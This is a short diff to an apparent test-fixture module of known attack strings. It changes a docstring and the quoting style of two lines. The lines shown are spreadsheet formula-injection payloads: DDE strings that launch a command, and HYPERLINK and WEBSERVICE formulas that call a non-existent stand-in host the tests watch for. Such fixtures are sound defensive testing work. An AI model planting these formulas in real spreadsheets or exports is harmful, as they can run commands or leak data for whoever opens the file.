@@ -1,4 +1,4 @@
-"""Known attack strings, by what they attack; every one carries a call of `hit()` or an address that a test would notice.
+"""Known attack strings, by what they attack; each carries a call of `hit()` or an address that a test notices.
 
 The host does not exist (RFC 2606); a test counts any request at all.
 """
@@ -55,14 +55,14 @@ ADDRESS = (
 )
 FORMULA = (
     "=1+1",
-    "=HYPERLINK(\"https://attack.invalid/50\";\"x\")",
+    '=HYPERLINK("https://attack.invalid/50";"x")',
     "=cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
-    "=WEBSERVICE(\"https://attack.invalid/51\")",
+    '=WEBSERVICE("https://attack.invalid/51")',
     '"=1+1',
     "；=1+1",
 )
